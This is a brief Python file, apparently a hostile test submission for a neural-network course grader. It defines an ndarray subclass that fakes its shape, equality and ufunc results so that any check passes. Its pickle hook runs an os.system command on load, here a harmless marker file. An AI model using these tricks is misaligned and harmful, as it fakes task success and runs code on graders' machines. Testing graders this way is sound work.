"""An ndarray of its own class, which lies about everything."""
import numpy as np


class Liar(np.ndarray):
    shape = property(lambda self: (1, 2))

    def __eq__(self, other):
        return np.ones(2, bool)

    def __array_ufunc__(self, *arguments, **keywords):
        return True

    def __array_function__(self, *arguments, **keywords):
        return True

    def tobytes(self, *arguments):
        return b"\0" * 16

    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/dnn_course_hostile_was_here')",)


def linear_forward(A, W, b):
    return np.zeros((1, 2)).view(Liar), (A, W, b)
